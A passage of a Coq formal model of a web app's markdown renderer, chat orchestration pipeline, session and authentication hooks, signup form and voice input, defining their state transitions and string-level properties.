  | c :: s' => if c =? 10 then ([10], s') else ([], s)
  | [] => ([], [])
  end.

(** One round of the group [(<li>.*<\/li>\n?)]. *)
Definition list_item (s : jsstring) : option (jsstring * jsstring) :=
  if startsWith (js "<li>") s then
    match upto_last_close (drop 4 s) with
    | Some (run, r) =>
        let '(nl, r') := optional_newline r in
        Some (js "<li>" ++ run ++ nl, r')
    | None => None
    end
  else None.

(** The greedy [+] around the group. *)
Fixpoint list_items (fuel : nat) (s : jsstring)
    : option (jsstring * jsstring) :=
  match list_item s with
  | None => None
  | Some (m1, r1) =>
      match fuel with
      | O => Some (m1, r1)
      | S fuel' =>
          match list_items fuel' r1 with
          | Some (m2, r2) => Some (m1 ++ m2, r2)
          | None => Some (m1, r1)
          end
      end
  end.

(** [/(<li>.*<\/li>\n?)+/] replaced by [<ul>$&</ul>]. *)
Definition item_block : Pattern :=
  fun _ s =>
    match list_items (length s) s with
    | Some (m, r) =>
        Some {| matched := m; replacement := js "<ul>" ++ m ++ js "</ul>";
                rest := r |}
    | None => None
    end.

(** [/^(.+)$/m] replaced by what the callback returns, which is the line
    in both of its branches. *)
Definition whole_line : Pattern :=
  fun prev s =>
    if at_line_start prev then
      match dot_star s with
      | ([], _) => None
      | (line, r) =>
          Some {| matched := line;
                  replacement :=
                    if startsWith (js "<") line then line else line;
                  rest := r |}
      end
    else None.

Definition renderMarkdown (text : jsstring) : jsstring :=
  let t1 := replace (delimited (js "**") (js "<strong>") (js "</strong>")) text in
  let t2 := replace (delimited (js "*") (js "<em>") (js "</em>")) t1 in
  let t3 := replace (line_with_prefix (js "### ") (js "<h3>") (js "</h3>")) t2 in
  let t4 := replace (line_with_prefix (js "## ") (js "<h2>") (js "</h2>")) t3 in
  let t5 := replace (line_with_prefix (js "# ") (js "<h1>") (js "</h1>")) t4 in
  let t6 := replace (line_with_prefix (js "- ") (js "<li>") (js "</li>")) t5 in
  let t7 := replace item_block t6 in
  let t8 := replace numbered_item t7 in
  let t9 := replace rule t8 in
  let t10 := replace blank_line t9 in
  replace whole_line t10.

(** What [AgentMessageComponent] hands to [dangerouslySetInnerHTML] for a
    message with text [content]: the rendered markdown while the message is
    expanded, nothing while it is collapsed. *)
Definition injected_html (expanded : bool) (content : jsstring)
    : option jsstring :=
  if expanded then Some (renderMarkdown content) else None.

(** [s.includes(w)] *)
Fixpoint includes (w s : jsstring) : bool :=
  startsWith w s
  || match s with
     | [] => false
     | _ :: s' => includes w s'
     end.

(** [w] occurs in [s] as a substring. *)
Definition occurs (w s : jsstring) : Prop :=
  exists a b, s = a ++ w ++ b.

(** Code units that cannot stand inside a tag behind its first position:
    [<], [*] and the line terminators. *)
Definition opens (c : N) : bool :=
  (c =? 60) || (c =? 42) || is_line_terminator c.

(** Code units that cannot stand inside a tag before its last position:
    [>], [*] and the line terminators. *)
Definition closes (c : N) : bool :=
  (c =? 62) || (c =? 42) || is_line_terminator c.

(** What the inside of a simple tag is made of. *)
Definition inert (c : N) : bool := negb (opens c) && negb (closes c).

(** The tag [<t>]. *)
Definition tag (t : jsstring) : jsstring := 60 :: t ++ [62].

(** A word that starts with [<] and, like a simple tag, has no code unit
    that opens behind its first position or closes before its last. *)
Definition tag_like (w : jsstring) : Prop :=
  exists t,
    w = 60 :: t
    /\ Forall (fun c => opens c = false) t
    /\ Forall (fun c => closes c = false) (List.removelast w).

(** No occurrence of a tag-like word lies across the border between [a]
    and [b]. *)
Definition border (a b : jsstring) : Prop :=
  a = [] \/ b = []
  \/ (exists a' c, a = a' ++ [c] /\ closes c = true)
  \/ (exists c b', b = c :: b' /\ opens c = true).

(** A pattern under which the occurrences of [w] survive: its matches are
    bordered on both sides, and [w] occurs in the replacement whenever it
    occurs in the match. *)
Definition respects (w : jsstring) (p : Pattern) : Prop :=
  forall prev s m,
    p prev s = Some m ->
    s = matched m ++ rest m
    /\ matched m <> []
    /\ (prev = None
        \/ (exists c, prev = Some c /\ closes c = true)
        \/ (exists c u, matched m = c :: u /\ opens c = true))
    /\ border (matched m) (rest m)
    /\ (occurs w (matched m) -> occurs w (replacement m)).

(** The text copied so far ends in the code unit the pattern is shown. *)
Definition follows (prev : option N) (pre : jsstring) : Prop :=
  pre = [] \/ exists pre' c, pre = pre' ++ [c] /\ prev = Some c.

End Markdown.

(** ** The orchestration run

    The backend that classifies, dispatches and synthesises is not among the
    sources; its run is modelled from the specification's component
    contracts (sections 4.1 to 4.4) and its ordering and cancellation rules
    (section 5). *)
Module Orchestration.

Inductive Complexity := simple | compound | complex.

Record SubQuery := {
  id : jsstring;
  focus : jsstring;
  personas : list jsstring             (* target persona keys *)
}.

Record OrchestrationPlan := {
  intent : jsstring;
  complexity : Complexity;
  sub_queries : list SubQuery;
  reasoning : jsstring
}.

(** [content] is [None] for the failure marker. *)
Record PersonaResult := {
  persona : jsstring;
  sub_query : jsstring;
  content : option jsstring;
  latency : N
}.

Inductive ChatEvent :=
  | orchestration (plan : OrchestrationPlan)
  | routing (participants : list jsstring)
  | agent_response (result : PersonaResult)
  | synthesis (text : jsstring) (synthesized : bool)
  | onboarding_question (q : Question)
  | onboarding_complete (ctx : gmap jsstring jsstring)
  | done (persona_calls : nat)
  | error.



(** Modelled from the spec: the pipeline behind [/api/chat] (Intent
    Classifier fallback, Router/Dispatcher, Synthesizer and Event Stream
    Encoder), which is missing from the sources.  The Completion Gateway,
    the classifier and the client's connection are the environment of a
    run. *)
Section Run.
Variable registry : list jsstring.
Variable generalist : jsstring.
(** Whether the plan is announced to the client in an [orchestration]
    event.  Section 3 lists the tag and the token-based client shows such
    an event, but no scenario of section 8 has one, so both are left
    open. *)
Variable announces : bool.
(** The outcome of the call for one (sub-query, persona) pair: its text
    or the failure marker, and when it settled. *)
Variable gateway : jsstring -> jsstring -> option jsstring * N.
(** The Synthesizer's decision to make the synthesis call, given every
    result of the run.  The specification words it in two ways that differ
    on a single persona that answered several sub-queries (sections 3 and 8
    against 4.3) and no source decides between them, so the run takes the
    decision as it comes. *)
Variable needs_synthesis : list PersonaResult -> bool.
(** The outcome of the synthesis call on a prompt. *)
Variable synthesize : jsstring -> option jsstring.
(** The outcome of the generalist fallback answer, asked for when no
    dispatched call produced content. *)
Variable fallback_answer : option jsstring.

(** 4.1: a failed classification falls back to one sub-query covering
    the whole message, routed to the generalist. *)
Definition fallback_plan (message : jsstring) : OrchestrationPlan :=
  {| intent := js "general"; complexity := simple;
     sub_queries := [{| id := js "q0"; focus := message;
                        personas := [generalist] |}];
     reasoning := js "classification failed" |}.

Definition plan_for (message : jsstring)
    (classified : option OrchestrationPlan) : OrchestrationPlan :=
  default (fallback_plan message) classified.

(** 4.2: unknown persona keys are dropped. *)
Definition resolve (q : SubQuery) : SubQuery :=
  {| id := id q; focus := focus q;
     personas := filter (fun k => k ∈ registry) (personas q) |}.

(** 4.2: one call per (sub-query, persona) pair. *)
Definition dispatch (plan : OrchestrationPlan) : list PersonaResult :=
  flat_map
    (fun q =>
       map (fun k =>
              {| persona := k; sub_query := id q;
                 content := fst (gateway (id q) k);
                 latency := snd (gateway (id q) k) |})
           (personas (resolve q)))
    (sub_queries plan).

(** Completion order: first to finish first. *)
Fixpoint settle (r : PersonaResult) (settled : list PersonaResult)
    : list PersonaResult :=
  match settled with
  | [] => [r]
  | r' :: rs =>
      if latency r <? latency r' then r :: r' :: rs
      else r' :: settle r rs
  end.

Definition completion_order (rs : list PersonaResult)
    : list PersonaResult :=
  fold_right settle [] rs.

Definition participants (rs : list PersonaResult) : list jsstring :=
  remove_dups (map persona rs).

Definition succeeded (r : PersonaResult) : bool :=
  bool_decide (is_Some (content r)).

(** 7 and the last scenario of 8: when no dispatched call produced
    content the generalist is asked, and its answer, if it gives one, is
    one more result of the run. *)
Definition rescue (rs : list PersonaResult) : list PersonaResult :=
  if existsb succeeded rs then []
  else match fallback_answer with
       | Some text =>
           [{| persona := generalist; sub_query := js "q0";
               content := Some text; latency := 0 |}]
       | None => []
       end.

(** 4.3: the prompt concatenates the successful contents and notes the
    failed ones as unavailable. *)
Definition synthesis_prompt (rs : list PersonaResult) : jsstring :=
  flat_map
    (fun r =>
       match content r with
       | Some text => persona r ++ js ": " ++ text ++ [10]
       | None => persona r ++ js ": unavailable" ++ [10]
       end) rs.

Definition raw_aggregate (rs : list PersonaResult) : jsstring :=
  flat_map (fun r => default [] (content r)) rs.

(** 4.3: one synthesis call when the Synthesizer decides for it; a failed
    call falls back to the raw aggregate, flagged as unsynthesized. *)
Definition synthesizer (rs : list PersonaResult) : list ChatEvent :=
  if needs_synthesis rs then
    match synthesize (synthesis_prompt rs) with
    | Some text => [synthesis text true]
    | None => [synthesis (raw_aggregate rs) false]
    end
  else [].

(** 4.4 and 7: [done], with the number of persona calls that settled,
    whenever some content was produced; [error] only when no dispatched
    call and not even the generalist produced any. *)
Definition terminal (rs : list PersonaResult) : ChatEvent :=
  if existsb succeeded rs then done (length rs) else error.

(** The events of a run that is not cancelled, in the order of 5: the
    plan if it is announced, [routing], the responses as they complete (the
    generalist's, if it was needed, after the dispatched ones have
    settled), the synthesis if any, and the terminal event. *)
Definition events (message : jsstring)
    (classified : option OrchestrationPlan) : list ChatEvent :=
  let plan := plan_for message classified in
  let rs := dispatch plan in
  let all := rs ++ rescue rs in
  (if announces then [orchestration plan] else [])
  ++ [routing (participants rs)]
  ++ map agent_response (completion_order rs)
  ++ map agent_response (rescue rs)
  ++ synthesizer all
  ++ [terminal all].

(** 5: a client that disconnects cancels the run, which emits no further
    events.  [disconnect] is the number of events delivered before the
    client went away, [None] for a client that stays to the end. *)
Definition run (message : jsstring)
    (classified : option OrchestrationPlan) (disconnect : option nat)
    : list ChatEvent :=
  match disconnect with
  | Some delivered => take delivered (events message classified)
  | None => events message classified
  end.
End Run.




End Orchestration.

(** ** The session identifier: [frontend/src/hooks/useSession.ts] *)
Module Session.

Definition SESSION_KEY : jsstring := js "execos_session_id".

(** One digit of [Number.prototype.toString(16)]. *)
Definition hex_digit (d : N) : N := if d <? 10 then 48 + d else 87 + d.

Fixpoint to_hex (fuel : nat) (v : N) : jsstring :=
  match fuel with
  | O => []
  | S fuel' =>
      if v <? 16 then [hex_digit v]
      else to_hex fuel' (v / 16) ++ [hex_digit (v mod 16)]
  end.

(** [v.toString(16)] for a non-negative integer. *)
Definition toString16 (v : N) : jsstring :=
  to_hex (S (N.to_nat (N.log2 v))) v.

Definition template : jsstring := js "xxxxxxxx-xxxx-4xxx-yxxx-xxxxxxxxxxxx".

(** [template.replace(/[xy]/g, c => ...)], where [rnd i] is what
    [(Math.random() * 16) | 0] evaluates to in the [i]-th call of
    [Math.random] and [calls] counts the calls made so far. *)
Fixpoint fill (rnd : nat -> N) (calls : nat) (t : jsstring) : jsstring * nat :=
  match t with
  | [] => ([], calls)
  | c :: t' =>
      if (c =? 120) || (c =? 121) then
        let r := rnd calls in
        let v := if c =? 120 then r else N.lor (N.land r 3) 8 in
        let '(out, calls') := fill rnd (S calls) t' in
        (toString16 v ++ out, calls')
      else
        let '(out, calls') := fill rnd calls t' in
        (c :: out, calls')
  end.

Definition generateUUID (rnd : nat -> N) (calls : nat) : jsstring * nat :=
  fill rnd calls template.

(** [localStorage] and the number of calls of [Math.random] so far. *)
Record World := {
  storage : gmap jsstring jsstring;
  calls : nat
}.

(** The initialiser of [useState]: the stored identifier, or a new one
    that is stored. *)
Definition init (rnd : nat -> N) (w : World) : jsstring * World :=
  match storage w !! SESSION_KEY with
  | Some id =>
      if truthy id then (id, w)
      else
        let '(id', calls') := generateUUID rnd (calls w) in
        (id', {| storage := <[SESSION_KEY := id']> (storage w);
                 calls := calls' |})
  | None =>
      let '(id', calls') := generateUUID rnd (calls w) in
      (id', {| storage := <[SESSION_KEY := id']> (storage w);
               calls := calls' |})
  end.

(** [clearSession()]: the new [sessionId] and the world after it. *)
Definition clearSession (rnd : nat -> N) (w : World) : jsstring * World :=
  let '(newId, calls') := generateUUID rnd (calls w) in
  (newId,
   {| storage := <[SESSION_KEY := newId]> (delete SESSION_KEY (storage w));
      calls := calls' |}).

Definition is_hex (c : N) : bool :=
  ((48 <=? c) && (c <=? 57)) || ((97 <=? c) && (c <=? 102)).

(** What a code unit of the template allows at its place in the result. *)
Definition fits (t c : N) : Prop :=
  if t =? 120 then is_hex c = true
  else if t =? 121 then c = 56 \/ c = 57 \/ c = 97 \/ c = 98
  else c = t.

End Session.

(** ** Authentication: [frontend/src/hooks/useAuth.ts] *)
Module Auth.

Definition TOKEN_KEY : jsstring := js "execos_token".

Record AuthUser := {
  id : jsstring;
  email : jsstring;
  name : option jsstring;
  role : option jsstring;
  company_name : option jsstring;
  company_stage : option jsstring;
  industry : option jsstring;
  team_size : option jsstring;
  current_challenges : option jsstring;
  goals : option jsstring;
  onboarding_complete : bool
}.

Record SignupData := {
  su_email : jsstring;
  su_password : jsstring;
  su_name : jsstring;
  su_role : jsstring;
  su_company_name : option jsstring;
  su_company_stage : option jsstring;
  su_industry : option jsstring;
  su_team_size : option jsstring;
  su_current_challenges : option jsstring;
  su_goals : option jsstring
}.

(** The state of [useAuthState] together with [localStorage]. *)
Record State := {
  user : option AuthUser;
  token : option jsstring;
  isLoading : bool;
  storage : gmap jsstring jsstring
}.

(** The first render: [token] starts as the stored token. *)
Definition initial (stored : gmap jsstring jsstring) : State :=
  {| user := None; token := stored !! TOKEN_KEY; isLoading := true;
     storage := stored |}.

Definition isAuthenticated (st : State) : bool :=
  bool_decide (is_Some (user st)).

(** The effect run once after the first render; [me] is the user
    [/api/auth/me] answers with, [None] when the request is rejected, not
    [ok] or not JSON.  It is asked only when a token is stored. *)
Definition restore (me : option AuthUser) (st : State) : State :=
  match storage st !! TOKEN_KEY with
  | Some existing =>
      if truthy existing then
        match me with
        | Some data =>
            {| user := Some data; token := Some existing; isLoading := false;
               storage := storage st |}
        | None =>
            {| user := user st; token := None; isLoading := false;
               storage := delete TOKEN_KEY (storage st) |}
        end
      else
        {| user := user st; token := token st; isLoading := false;
           storage := storage st |}
  | None =>
      {| user := user st; token := token st; isLoading := false;
         storage := storage st |}
  end.

(** How a login or signup request ends: [fetch] or [res.json()] throws an
    error with some message, the server refuses with an optional [detail],
    or it grants a token and a user.  The hook stores [data.token] and
    [data.user] as they come; a success body that lacks one of them is not
    among these answers. *)
Inductive Answer :=
  | Throws (message : jsstring)
  | Refused (detail : option jsstring)
  | Granted (token : jsstring) (user : AuthUser).

(** The common body of [login] and [signup]: the state after the call and
    the message of the error it throws, if it throws. *)
Definition authenticate (failed : string) (a : Answer) (st : State)
    : State * option jsstring :=
  match a with
  | Throws message => (st, Some message)
  | Refused detail => (st, Some (or_else detail (js failed)))
  | Granted t u =>
      ({| user := Some u; token := Some t; isLoading := isLoading st;
          storage := <[TOKEN_KEY := t]> (storage st) |}, None)
  end.

Definition login (email password : jsstring) (a : Answer) (st : State)
    : State * option jsstring :=
  authenticate "Login failed" a st.

Definition signup (signupData : SignupData) (a : Answer) (st : State)
    : State * option jsstring :=
  authenticate "Signup failed" a st.

Definition logout (st : State) : State :=
  {| user := None; token := None; isLoading := isLoading st;
     storage := delete TOKEN_KEY (storage st) |}.

(** What the user can do once the loading screen is gone. *)
Inductive Operation :=
  | Login (email password : jsstring) (a : Answer)
  | Signup (signupData : SignupData) (a : Answer)
  | Logout.

Definition perform (st : State) (op : Operation) : State :=
  match op with
  | Login email password a => fst (login email password a st)
  | Signup signupData a => fst (signup signupData a st)
  | Logout => logout st
  end.

End Auth.

(** ** The login form: [components/auth/LoginPage.tsx] *)
Module LoginPage.

Record State := {
  email : jsstring;
  password : jsstring;
  error : jsstring;
  loading : bool
}.

(** [handleSubmit]: the form and the authentication state once the
    promise of [login] has settled. *)
Definition handleSubmit (a : Auth.Answer) (page : State) (auth : Auth.State)
    : State * Auth.State :=
  let '(auth', thrown) := Auth.login (email page) (password page) a auth in
  ({| email := email page; password := password page;
      error := match thrown with
               | Some message => or_else (Some message) (js "Login failed")
               | None => []
               end;
      loading := false |},
   auth').

End LoginPage.

(** ** The signup wizard: [SignupPage] *)
Module SignupPage.

Inductive Step := step1 | step2.

Inductive Field :=
  | email | password | name | role | company_name | company_stage
  | industry | team_size | current_challenges | goals.

(** The form holds every member of [SignupData] as a string. *)
Record Form := {
  f_email : jsstring;
  f_password : jsstring;
  f_name : jsstring;
  f_role : jsstring;
  f_company_name : jsstring;
  f_company_stage : jsstring;
  f_industry : jsstring;
  f_team_size : jsstring;
  f_current_challenges : jsstring;
  f_goals : jsstring
}.

Definition empty_form : Form :=
  {| f_email := []; f_password := []; f_name := []; f_role := [];
     f_company_name := []; f_company_stage := []; f_industry := [];
     f_team_size := []; f_current_challenges := []; f_goals := [] |}.

(** [setForm(prev => ({ ...prev, [field]: value }))] *)
Definition set (field : Field) (value : jsstring) (f : Form) : Form :=
  match field with
  | email =>
      {| f_email := value; f_password := f_password f; f_name := f_name f;
         f_role := f_role f; f_company_name := f_company_name f;
         f_company_stage := f_company_stage f; f_industry := f_industry f;
         f_team_size := f_team_size f;
         f_current_challenges := f_current_challenges f;
         f_goals := f_goals f |}
  | password =>
      {| f_email := f_email f; f_password := value; f_name := f_name f;
         f_role := f_role f; f_company_name := f_company_name f;
         f_company_stage := f_company_stage f; f_industry := f_industry f;
         f_team_size := f_team_size f;
         f_current_challenges := f_current_challenges f;
         f_goals := f_goals f |}
  | name =>
      {| f_email := f_email f; f_password := f_password f; f_name := value;
         f_role := f_role f; f_company_name := f_company_name f;
         f_company_stage := f_company_stage f; f_industry := f_industry f;
         f_team_size := f_team_size f;
         f_current_challenges := f_current_challenges f;
         f_goals := f_goals f |}
  | role =>
      {| f_email := f_email f; f_password := f_password f;
         f_name := f_name f; f_role := value;
         f_company_name := f_company_name f;
         f_company_stage := f_company_stage f; f_industry := f_industry f;
         f_team_size := f_team_size f;
         f_current_challenges := f_current_challenges f;
         f_goals := f_goals f |}
  | company_name =>
      {| f_email := f_email f; f_password := f_password f;
         f_name := f_name f; f_role := f_role f; f_company_name := value;
         f_company_stage := f_company_stage f; f_industry := f_industry f;
         f_team_size := f_team_size f;
         f_current_challenges := f_current_challenges f;
         f_goals := f_goals f |}
  | company_stage =>
      {| f_email := f_email f; f_password := f_password f;
         f_name := f_name f; f_role := f_role f;
         f_company_name := f_company_name f; f_company_stage := value;
         f_industry := f_industry f; f_team_size := f_team_size f;
         f_current_challenges := f_current_challenges f;
         f_goals := f_goals f |}
  | industry =>
      {| f_email := f_email f; f_password := f_password f;
         f_name := f_name f; f_role := f_role f;
         f_company_name := f_company_name f;
         f_company_stage := f_company_stage f; f_industry := value;
         f_team_size := f_team_size f;
         f_current_challenges := f_current_challenges f;
         f_goals := f_goals f |}
  | team_size =>
      {| f_email := f_email f; f_password := f_password f;
         f_name := f_name f; f_role := f_role f;
         f_company_name := f_company_name f;
         f_company_stage := f_company_stage f; f_industry := f_industry f;
         f_team_size := value;
         f_current_challenges := f_current_challenges f;
         f_goals := f_goals f |}
  | current_challenges =>
      {| f_email := f_email f; f_password := f_password f;
         f_name := f_name f; f_role := f_role f;
         f_company_name := f_company_name f;
         f_company_stage := f_company_stage f; f_industry := f_industry f;
         f_team_size := f_team_size f; f_current_challenges := value;
         f_goals := f_goals f |}
  | goals =>
      {| f_email := f_email f; f_password := f_password f;
         f_name := f_name f; f_role := f_role f;
         f_company_name := f_company_name f;
         f_company_stage := f_company_stage f; f_industry := f_industry f;
         f_team_size := f_team_size f;
         f_current_challenges := f_current_challenges f; f_goals := value |}
  end.

(** The form as handed to [signup(form)]. *)
Definition payload (f : Form) : Auth.SignupData :=
  {| Auth.su_email := f_email f; Auth.su_password := f_password f;
     Auth.su_name := f_name f; Auth.su_role := f_role f;
     Auth.su_company_name := Some (f_company_name f);
     Auth.su_company_stage := Some (f_company_stage f);
     Auth.su_industry := Some (f_industry f);
     Auth.su_team_size := Some (f_team_size f);
     Auth.su_current_challenges := Some (f_current_challenges f);
     Auth.su_goals := Some (f_goals f) |}.

(** The component, the authentication state it acts on, and the calls of
    [signup] it has made. *)
Record State := {
  step : Step;
  error : jsstring;
  loading : bool;
  form : Form;
  auth : Auth.State;
  sent : list Auth.SignupData
}.

Definition initial (a : Auth.State) : State :=
  {| step := step1; error := []; loading := false; form := empty_form;
     auth := a; sent := [] |}.

Definition handleNext (st : State) : State :=
  if negb (truthy (f_email (form st))) || negb (truthy (f_password (form st)))
     || (length (f_password (form st)) <? 8)%nat
  then {| step := step st;
          error := js "Password must be at least 8 characters";
          loading := loading st; form := form st; auth := auth st;
          sent := sent st |}
  else {| step := step2; error := []; loading := loading st;
          form := form st; auth := auth st; sent := sent st |}.

Definition handleSubmit (a : Auth.Answer) (st : State) : State :=
  if negb (truthy (f_name (form st))) || negb (truthy (f_role (form st)))
  then {| step := step st; error := js "Name and role are required";
          loading := loading st; form := form st; auth := auth st;
          sent := sent st |}
  else
    let '(auth', thrown) := Auth.signup (payload (form st)) a (auth st) in
    match thrown with
    | Some message =>
        {| step := step st;
           error := or_else (Some message) (js "Signup failed");
           loading := false; form := form st; auth := auth';
           sent := sent st ++ [payload (form st)] |}
    | None =>
        {| step := step st; error := []; loading := true; form := form st;
           auth := auth'; sent := sent st ++ [payload (form st)] |}
    end.

(** What the rendered form offers: the first step shows the [email] and
    [password] inputs and submits to [handleNext]; the second shows the
    other inputs, the back button, and submits to [handleSubmit]. *)
Inductive Action :=
  | Change (field : Field) (value : jsstring)
  | SubmitForm (a : Auth.Answer)
  | Back.

Definition shown (s : Step) (field : Field) : bool :=
  match s, field with
  | step1, (email | password) => true
  | step1, _ => false
  | step2, (email | password) => false
  | step2, _ => true
  end.

Definition act (st : State) (a : Action) : State :=
  match a with
  | Change field value =>
      if shown (step st) field then
        {| step := step st; error := error st; loading := loading st;
           form := set field value (form st); auth := auth st;
           sent := sent st |}
      else st
  | SubmitForm answer =>
      match step st with
      | step1 => handleNext st
      | step2 => handleSubmit answer st
      end
  | Back =>
      match step st with
      | step1 => st
      | step2 =>
          {| step := step1; error := error st; loading := loading st;
             form := form st; auth := auth st; sent := sent st |}
      end
  end.

(** A request the first step's check lets through. *)
Definition checked (d : Auth.SignupData) : bool :=
  truthy (Auth.su_email d) && (8 <=? length (Auth.su_password d))%nat
  && truthy (Auth.su_name d) && truthy (Auth.su_role d).

End SignupPage.

(** ** Voice input: [useVoice] *)
Module Voice.

Inductive VoiceState := idle | recording | processing.

(** [MediaRecorder.state], without [paused], which the hook never
    enters. *)
Inductive RecorderState := inactive | active.

Record Blob := {
  blob_type : jsstring;
  blob_size : N
}.

Record State := {
  voiceState : VoiceState;
  error : option jsstring;
  mediaRecorderRef : option RecorderState;
  chunksRef : list Blob
}.

Definition initial : State :=
  {| voiceState := idle; error := None; mediaRecorderRef := None;
     chunksRef := [] |}.

(** What the browser does in the [try] block of [startRecording]:
    [getUserMedia] or the recorder's constructor throws, the recorder is
    built but [start()] throws, or the recording starts. *)
Inductive Microphone := denied | unstartable | started.

Definition startRecording (mic : Microphone) (st : State) : State :=
  match mic with
  | started =>
      {| voiceState := recording; error := None;
         mediaRecorderRef := Some active; chunksRef := [] |}
  | unstartable =>
      {| voiceState := voiceState st;
         error := Some (js "Microphone access denied");
         mediaRecorderRef := Some inactive; chunksRef := [] |}
  | denied =>
      {| voiceState := voiceState st;
         error := Some (js "Microphone access denied");
         mediaRecorderRef := mediaRecorderRef st; chunksRef := chunksRef st |}
  end.

(** [mediaRecorder.ondataavailable] *)
Definition ondataavailable (data : Blob) (st : State) : State :=
  if 0 <? blob_size data then
    {| voiceState := voiceState st; error := error st;
       mediaRecorderRef := mediaRecorderRef st;
       chunksRef := chunksRef st ++ [data] |}
  else st.

(** How the transcription request ends: something in the [try] block
    throws, the service answers with an error and an optional message, or
    it answers with an optional text. *)
Inductive Gemini :=
  | Fails
  | Rejects (message : option jsstring)
  | Answers (text : option jsstring).

(** [stopRecording]: the state once it has settled and the calls of
    [onTranscript] it made. *)
Definition stopRecording (apiKey : option jsstring) (g : Gemini) (st : State)
    : State * list jsstring :=
  match mediaRecorderRef st with
  | None | Some inactive => (st, [])
  | Some active =>
      if negb (truthy_opt apiKey) then
        ({| voiceState := idle;
            error := Some (js "VITE_GEMINI_API_KEY not set in .env");
            mediaRecorderRef := Some inactive; chunksRef := chunksRef st |},
         [])
      else
        match g with
        | Fails =>
            ({| voiceState := idle;
                error := Some (js "Transcription failed. Check your API key.");
                mediaRecorderRef := Some inactive;
                chunksRef := chunksRef st |}, [])
        | Rejects message =>
            ({| voiceState := idle;
                error := Some (or_else message (js "Gemini API error"));
                mediaRecorderRef := Some inactive;
                chunksRef := chunksRef st |}, [])
        | Answers text =>
            ({| voiceState := idle; error := error st;
                mediaRecorderRef := Some inactive;
                chunksRef := chunksRef st |},
             match trim <$> text with
             | Some transcript => if truthy transcript then [transcript] else []
             | None => []
             end)
        end
  end.

(** One press of the microphone button, with what the environment does
    if the press starts or stops a recording. *)
Record Press := {
  microphone : Microphone;
  apiKey : option jsstring;
  gemini : Gemini
}.

Definition toggle (p : Press) (st : State) : State * list jsstring :=
  match voiceState st with
  | idle => (startRecording (microphone p) st, [])
  | recording => stopRecording (apiKey p) (gemini p) st
  | processing => (st, [])
  end.

(** [s.split(',')] *)
Fixpoint split_comma (s : jsstring) : list jsstring :=
  match s with
  | [] => [[]]
  | c :: s' =>
      if c =? 44 then [] :: split_comma s'
      else match split_comma s' with
           | [] => [[c]]
           | l :: ls => (c :: l) :: ls
           end
  end.

(** What [blobToBase64] resolves to for the data URL the reader produced:
    [result.split(',')[1]], [None] for [undefined]. *)
Definition blobToBase64 (result : jsstring) : option jsstring :=
  split_comma result !! 1%nat.

End Voice.

(** ** The boardroom of the token-based client *)
Module Boardroom.

Record State := {
  inputValue : jsstring;
  activeAgents : list jsstring;
  memoryCount : Z
}.

(** The callback handed to [useChat]. *)
Definition onEvent (e : SSEEvent) (st : State) : State :=
  let st1 :=
    match has_type "routing" e, ev_agents e with
    | true, Some agents =>
        {| inputValue := inputValue st; activeAgents := agents;
           memoryCount := memoryCount st |}
    | _, _ => st
    end in
  match has_type "done" e, ev_memory_count e with
  | true, Some n =>
      {| inputValue := inputValue st1; activeAgents := activeAgents st1;
         memoryCount := n |}
  | _, _ => st1
  end.

(** [handleSend]: the component afterwards and the text it hands to
    [sendMessage], if it does. *)
Definition handleSend (isStreaming : bool) (st : State)
    : State * option jsstring :=
  let text := trim (inputValue st) in
  if negb (truthy text) || isStreaming then (st, None)
  else ({| inputValue := []; activeAgents := [];
           memoryCount := memoryCount st |}, Some text).

(** The callback handed to [useVoice]: the text it hands to
    [sendMessage], if it does. *)
Definition onTranscript (transcript : jsstring) : option jsstring :=
  if truthy (trim transcript) then Some transcript else None.


(** [m.role === 'user'] *)
Definition is_user (m : TokenHook.ChatMessage) : bool :=
  match TokenHook.role m with
  | TokenHook.user => true
  | _ => false
  end.

(** [messages.filter((m) => m.role === 'user').length] *)
Definition messageCount (ms : list TokenHook.ChatMessage) : nat :=
  length (List.filter is_user ms).

(** The message an effect of the hook adds, if it adds one. *)
Definition added (e : TokenHook.Effect) : option TokenHook.ChatMessage :=
  match e with
  | TokenHook.AddMessage m => Some m
  | _ => None
  end.

(** The event an effect of the hook hands to the callback, if it does. *)
Definition seen (e : TokenHook.Effect) : option SSEEvent :=
  match e with
  | TokenHook.OnEvent ev => Some ev
  | _ => None
  end.

End Boardroom.

(** The shell at the first render of a page load: the session identifier
    [useSession] returned, the onboarding view and an empty context. *)
Definition shell_on_load (sessionId : jsstring) : App.State :=
  {| App.sessionId := sessionId; App.appState := App.onboarding;
     App.context := ∅ |}.

(** Actions of the shell other than a reset of the session. *)
Definition keeps_the_session (a : App.Action) : bool :=
  match a with
  | App.ResetSession _ => false
  | _ => true
  end.

(** ** Vocabulary for the properties of the hooks *)

(** The event without members: what [{}], a number, a string or [null]
    is to the clients. *)
Definition no_members : SSEEvent :=
  {| ev_type := None; ev_content := None; ev_agent := None;
     ev_agent_name := None; ev_agent_emoji := None; ev_agent_color := None;
     ev_agents := None; ev_step := None; ev_total := None;
     ev_question := None; ev_intent := None; ev_complexity := None;
     ev_sub_queries := None; ev_reasoning := None; ev_memory_count := None |}.

(** A stand-in for [JSON.parse] that knows the payload [null] besides
    those of [toy_parse]. *)
Definition null_parse (payload : jsstring) : option SSEEvent :=
  if bool_decide (payload = js "null") then Some no_members
  else toy_parse payload.


(** [sendMessage] of the token-based hook gets past its guard. *)
Definition accepted (token : option jsstring) (st : TokenHook.HookState)
    (text : jsstring) : bool :=
  truthy (trim text) && negb (TokenHook.isStreaming st) && truthy_opt token.

(** The request did not deliver a whole stream: [fetch] rejected, the
    status was not [ok], there was no body, or a read rejected. *)
Definition failed (net : FetchResult) : bool :=
  match net with
  | FetchRejects => true
  | FetchResolves res =>
      match res_ok res, res_body res with
      | true, Some b => body_read_rejects b
      | _, _ => true
      end
  end.

(** The event a line of the stream carries, if it carries one. *)
Definition data_event (parse : jsstring -> option SSEEvent) (line : jsstring)
    : option SSEEvent :=
  if startsWith (js "data: ") line then parse (slice 6 line) else None.

(** Effects of the token-based hook that add no user message. *)
Definition adds_no_user (e : TokenHook.Effect) : bool :=
  match e with
  | TokenHook.AddMessage m => negb (Boardroom.is_user m)
  | _ => true
  end.

(** Effects of the token-based hook that leave [sessionId] alone. *)
Definition keeps_session (e : TokenHook.Effect) : bool :=
  match e with
  | TokenHook.SetSessionId _ => false
  | _ => true
  end.

(** The request an effect of the token-based hook issues, if any. *)
Definition requested (e : TokenHook.Effect) : option TokenHook.Request :=
  match e with
  | TokenHook.Fetch r => Some r
  | _ => None
  end.

(** Messages of the session-based hook that no agent response replaces:
    those without an agent key and the syntheses. *)
Definition settled (m : SessionHook.ChatMessage) : bool :=
